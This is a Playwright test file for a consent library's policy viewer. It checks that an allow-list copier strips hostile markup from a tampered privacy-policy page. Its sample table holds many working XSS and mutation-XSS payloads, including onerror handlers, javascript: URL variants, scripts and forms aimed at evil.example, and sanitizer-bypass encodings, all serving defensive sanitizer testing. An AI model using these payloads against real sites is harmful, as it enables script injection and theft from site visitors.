// The viewer copies the policy's text through an allow-list: everything that the renderer writes, and nothing
// else.

import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { build } from "esbuild";
import type { Page } from "@playwright/test";
import { expect, test, type Noren } from "./noren";
import { older } from "./older";
import { LANGUAGES } from "./places";
import { shop } from "./shop";

const ROOT = join(import.meta.dirname, "../..");

/** Adds `rebuild` to a page as `window.taken(html)`, which returns the copied article as markup. */
async function prepare(page: Page): Promise<void> {
  const entry = join(ROOT, "src/interface/policy-article.ts");
  const made = await build({ entryPoints: [entry], bundle: true, write: false, format: "iife", globalName: "article" });
  await page.goto("/pages/framed.html");
  await page.addScriptTag({ content: made.outputFiles[0]!.text });
  await page.evaluate(() => {
    (window as any).taken = (html: string) => {
      const parsed = new DOMParser().parseFromString(html, "text/html");
      return (window as any).article.rebuild(parsed.querySelector("article")!).outerHTML;
    };
  });
}

const taken = (page: Page, html: string): Promise<string> => page.evaluate((it) => (window as any).taken(it), html);

test("all that the renderer writes is taken over unchanged, in each language, changes too", async ({ page }) => {
  await prepare(page);
  const folder = older("/policy/changes/");
  const files = [...LANGUAGES.map((it) => older(`/policy/${it}.html`)), ...readdirSync(folder).filter((it) => it.endsWith(".html")).map((it) => join(folder, it))];
  expect(files).toHaveLength(8);
  const elements = new Set<string>();
  for (const file of files) {
    const html = readFileSync(file, "utf8");
    const written = await page.evaluate((it) => {
      const article = new DOMParser().parseFromString(it, "text/html").querySelector("article")!;
      return { html: article.outerHTML, names: [...article.querySelectorAll("*")].map((each) => each.localName) };
    }, html);
    expect(await taken(page, html), file).toBe(written.html);
    for (const name of written.names) elements.add(name);
  }
  expect([...elements].sort().join(" ")).toBe("a dd del div dl dt h1 h2 h3 h4 header ins li nav ol p section strong time ul");
});

/** An article's content, and the part that is copied. */
const SAMPLES: [what: string, found: string, kept: string][] = [
  ["text and known elements", `<p lang="ja">あ</p><h2 id="s7">7</h2>`, `<p lang="ja">あ</p><h2 id="s7">7</h2>`],
  ["a handler on a known element", `<p onclick="owned()" onpointerenter=owned()>a</p>`, `<p>a</p>`],
  ["a picture with a handler", `<p>a<img src=x onerror=owned()>b</p>`, `<p>ab</p>`],
  ["a script", `a<script>owned()</script><script src="https://evil.example/a.js"></script>b`, `ab`],
  ["a style", `a<style>@import "https://evil.example"; * { display: none }</style>b<p style="position:fixed">c</p>`, `ab<p>c</p>`],
  ["frames", `a<iframe srcdoc="<script>parent.owned()</script>"></iframe><iframe src="javascript:owned()"></iframe><object data="data:text/html,x"></object><embed src=x>b`, `ab`],
  ["a form", `a<form action="https://evil.example"><input name=card><button formaction="javascript:owned()">Pay</button><p>in</p></form>b`, `ab`],
  ["controls without a form", `<input autofocus onfocus=owned()><textarea>t</textarea><select><option>o</select><button data-noren=accept>Yes</button>`, ``],
  ["base, meta and link", `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example">a`, `a`],
  ["svg", `a<svg onload=owned()><use href="data:image/svg+xml,<svg id=x onload=owned()>#x"></use><script>owned()</script><a href="javascript:owned()"><text>x</text></a></svg>b`, `ab`],
  ["math", `a<math><maction xlink:href="javascript:owned()">x</maction><mi>y</mi></math>b`, `ab`],
  ["templates", `a<template><img src=x onerror=owned()><template>x</template></template><noscript><img src=x onerror=owned()></noscript>b`, `ab`],
  ["a declarative shadow root", `<div class="links"><template shadowrootmode="open"><script>owned()</script></template>b</div>`, `<div class="links">b</div>`],
  ["unknown elements keep their text", `<p>a <b onclick=owned()>bold</b> <x-card>card</x-card> <constructor>c</constructor></p>`, `<p>a bold card c</p>`],
  ["a known element within an unknown one", `<marquee onstart=owned()><p>a</p></marquee>`, `<p>a</p>`],
  ["comments", `a<!-- <img src=x onerror=owned()> --><!--><img src=x onerror=owned()>-->b`, `a--&gt;b`],
  ["ids of the dialog's own", `<h2 id="heading">a</h2><h2 id="noren-article">b</h2><p id="s1">c</p><h2 id="s1 x">d</h2><h2 id="s123">e</h2>`, `<h2>a</h2><h2>b</h2><p>c</p><h2>d</h2><h2>e</h2>`],
  ["controls and marks of Noren's own", `<p data-noren="accept" data-noren-lang="ja" data-noren-frame data-category="!x" constructor="x" part="accept" slot="a" class="banner" role="button" tabindex="0" contenteditable name="a" is="x-y">a</p>`, `<p>a</p>`],
  ["classes that are not the policy's", `<div class="service-list banner">a</div><ul class="close"><li>b</li></ul><a class="text x" href="/">c</a>`, `<div>a</div><ul><li>b</li></ul><a href="/">c</a>`],
  ["links that are kept", ["https://a.example/", "http://a.example", "mailto:a@b.example", "tel:+81", "/contact", "#s1", "changes/en.2026-05-03.html", "?a:b", "//a.example"].map((it) => `<a href="${it}">l</a>`).join(""), ["https://a.example/", "http://a.example", "mailto:a@b.example", "tel:+81", "/contact", "#s1", "changes/en.2026-05-03.html", "?a:b", "//a.example"].map((it) => `<a href="${it}">l</a>`).join("")],
  ["links that are not", ["javascript:owned()", "JaVaScRiPt:owned()", " javascript:owned()", "java&#10;script:owned()", "java&#9;script:owned()", "&#1;javascript:owned()", "javascript&colon;owned()", "data:text/html,<script>owned()</script>", "vbscript:x", "blob:https://a.example/x", "file:///etc", "filesystem:x", "about:blank", "view-source:x", "intent://x", "https://[x"].map((it) => `<a href="${it}">l</a>`).join(""), "<a>l</a>".repeat(16)],
  ["other targets, relations and pings", `<a href="/" target="_top" rel="opener" ping="https://evil.example" download referrerpolicy="unsafe-url" hreflang="x">l</a>`, `<a href="/">l</a>`],
  ["a language that is none", `<p lang='"><img src=x>'>a</p>`, `<p>a</p>`],
  ["markup that changes when parsed twice", `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=owned()>`, ``],
  ["the same with a table and svg", `<svg></p><style><a id="</style><img src=1 onerror=owned()>">`, `<p></p>"&gt;`],
  ["the same with a title", `<math><annotation-xml encoding="text/html"><title>&lt;/title>&lt;img src=x onerror=owned()></title></math><p>a</p>`, `<p>a</p>`],
  ["text that looks like markup", `<p>&lt;img src=x onerror=owned()&gt;</p><xmp><img src=x onerror=owned()></xmp><noembed><img src=x></noembed>`, `<p>&lt;img src=x onerror=owned()&gt;</p>`],
  ["a foreign element of a known name", `<svg><p xmlns="x">a</p></svg><math><a href="/">m</a></math>`, `<p>a</p>`],
];

for (const [what, found, kept] of SAMPLES) {
  test(`taken over of an article: ${what}`, async ({ page }) => {
    await prepare(page);
    expect(await taken(page, `<!doctype html><article>${found}</article>`)).toBe(`<article>${kept}</article>`);
  });
}

/** Serves the right company's policy with the given markup in its article. */
async function attacked(noren: Noren, inside: string): Promise<void> {
  await noren.page.context().route("**/policy/en.html", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<!doctype html><html lang="en"><head><meta name="noren-company" content="${shop().company.name}"></head><body><article><h1>Policy</h1>${inside}<p>The end</p></article></body></html>`,
    }),
  );
}

for (const [where, path] of [
  ["a page", ""],
  ["a page with a strict policy and Trusted Types", "/pages/strict.html?csp=strict&tt=1"],
] as const) {
  test(`a policy page that was tampered with does nothing in ${where}`, async ({ page, noren }) => {
    const outside: string[] = [];
    page.context().on("request", (request) => {
      if (request.url().includes("evil.example")) outside.push(request.url());
    });
    const errors: string[] = [];
    page.on("pageerror", (error) => errors.push(String(error)));
    await attacked(
      noren,
      SAMPLES.map(([, found]) => found.replaceAll("owned()", "(window.owned=1)")).join("") +
        `<section><h2 id="s1">1. One</h2></section>`,
    );
    if (path) await page.goto(path);
    else await noren.open();
    await noren.banner.locator("[data-noren=policy]").click();
    const article = noren.policy.locator("#noren-article > article");
    await expect(article.getByText("bold card c")).toBeVisible();
    await noren.settle();
    expect(await article.locator("script, style, iframe, object, embed, form, input, button:not(.service-list *), svg, math, template, img, base, meta, link").count()).toBe(0);
    expect(await article.evaluate((it) => [...it.querySelectorAll("*")].flatMap((each) => (each.closest(".service-list") ? [] : each.getAttributeNames())).filter((name) => /^on|^data-|^style$|^part$/.test(name)))).toEqual([]);
    // The dialog's heading is the element that labels it.
    expect(await noren.host.evaluate((it) => [...it.shadowRoot!.querySelectorAll("#heading")].length)).toBe(1);
    expect(await page.evaluate(() => (window as any).owned)).toBeUndefined();
    expect(outside).toEqual([]);
    expect(errors).toEqual([]);
    // Chromium also reports violations in a document that is only parsed: its styles, its base element and
    // (seen in 156.0.8078.108) its handlers. None of them is copied: see above.
    const violations: string[] = await page.evaluate(() => (window as any).violations ?? []);
    expect(violations.filter((it) => !/^(style-src|base-uri|script-src-attr)/.test(it))).toEqual([]);
  });
}
